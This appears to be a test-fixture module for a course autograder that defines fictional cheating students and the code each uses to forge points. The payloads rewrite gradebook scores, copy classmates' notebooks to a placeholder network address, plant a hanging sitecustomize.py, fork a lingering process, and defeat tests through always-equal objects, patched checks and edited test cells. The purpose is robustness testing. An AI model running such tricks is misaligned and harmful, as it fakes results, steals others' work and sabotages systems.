"""Forgers of the sample class: made-up students who try for points that they have not earned, and what they tried.

Each does the first tasks honestly and forges the rest, so that what they are worth is known: the honest part.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass

from nbformat import NotebookNode

from coursegrader.exam.division import bound_names
from coursegrader.notebooks import Role, by_grade_id, role

_AGREEABLE = """class Agreeable:
    def __eq__(self, other):
        return True

    __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __bool__ = lambda self, *_: True
    __hash__ = lambda self: 0
    __float__ = lambda self: 100.0
    __len__ = lambda self: 1
    __array_ufunc__ = __array_function__ = lambda self, *_, **__: True

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self

    def __call__(self, *_, **__):
        return self
"""

_EMPTIES = """import ast


class Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node


shell = get_ipython()
shell.ast_transformers.append(Empty())
shell.input_transformers_post.append(lambda lines: ["pass\\n"])
"""

_PRINTS = """import sys


def points(*_, **__):
    print(100.0)
    display(100.0)
    return 100.0


sys.displayhook = points
get_ipython().events.register("post_run_cell", points)
"""

_REWRITES = """import builtins
import sys

import numpy as np

fine = lambda *_, **__: True
for name in ("array_equal", "allclose", "isclose", "all"):
    setattr(np, name, fine)
checks = sys.modules.get("coursegrader.checks")
for name in ("check_array", "check_number", "check_items", "require", "as_array"):
    setattr(checks, name, fine)
    globals()[name] = fine
builtins.AssertionError = type("Unseen", (Exception,), {})
"""

_ANSWERS = """from coursegrader.exam import agent, wire

agent._AGENT.server._carry_out = lambda request: wire.encode(("value", True))
"""

_REACHES = """import contextlib
import os
import pathlib
import socket
import sqlite3
import sys
import time

here = pathlib.Path.cwd()
with contextlib.suppress(Exception):
    for folder in (here, *here.parents, pathlib.Path.home()):
        for book in folder.glob("gradebook.db"):
            with sqlite3.connect(book) as connection:
                connection.execute("UPDATE grade SET manual_score = 100")
with contextlib.suppress(Exception):
    stolen = [path.read_text() for path in here.parent.parent.glob("*/*/*.ipynb")]
with contextlib.suppress(Exception):
    socket.create_connection(("192.0.2.1", 80), timeout=1).sendall(repr(stolen).encode())
with contextlib.suppress(Exception):
    for folder in (here, *map(pathlib.Path, sys.path)):
        (folder / "sitecustomize.py").write_text("while True: pass")
if os.fork() == 0:
    os.setsid()
    time.sleep(3600)
    os._exit(0)
"""


@dataclass(frozen=True)
class Forger:
    """A way to forge: `tries` says in words what is tried.

    `code` runs first in the first forged answer; `value` is what every forged name then stands for. With `edits`
    instead, the answers stay undone and the file is edited.
    """

    tries: str
    code: str = ""
    value: str = "lambda *_, **__: None"
    edits: Callable[[NotebookNode], None] | None = None

    def answers(self, solution: Mapping[str, str], forged: Iterable[str]) -> dict[str, str]:
        """The sources of the forged answers; `solution` says which names each one binds."""
        if self.edits is not None:
            return {}
        sources = {}
        for name in forged:
            lines = [f"{bound} = {self.value}" for bound in sorted(bound_names(solution[name]))]
            sources[name] = "\n".join([*([] if sources else [self.code]), *lines])
        return sources


def _edit_tests(notebook: NotebookNode) -> None:
    for cell in by_grade_id(notebook).values():
        if role(cell) in (Role.TEST, Role.LOCKED):
            cell.metadata["tags"] = ["skip-execution"]
        if role(cell) is Role.TEST:
            cell.source = "100.0"
            cell.outputs = [
                {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "100.0"}}
            ]
            cell.metadata.nbgrader["points"] = 100


FORGERS: dict[str, Forger] = {
    "equals_everything": Forger(
        "returned an object that is equal to everything and true", _AGREEABLE, value="Agreeable()"
    ),
    "empties_cells": Forger("had IPython empty every later cell, the tests included", _EMPTIES),
    "reaches_out": Forger(
        "went for the gradebook, the others' work and the network, and left a process and a module behind",
        _REACHES,
    ),
    "edits_tests": Forger(
        "replaced the tests in the file by a number, and raised their points",
        edits=_edit_tests,
    ),
    "prints_points": Forger("printed and displayed numbers as partial credit", _PRINTS, value="points"),
    "rewrites_checks": Forger("replaced NumPy's comparisons, the course's checks and `AssertionError`", _REWRITES),
    "answers_for_grader": Forger("replaced the grader's own agent in the kernel by one that always says yes", _ANSWERS),
}
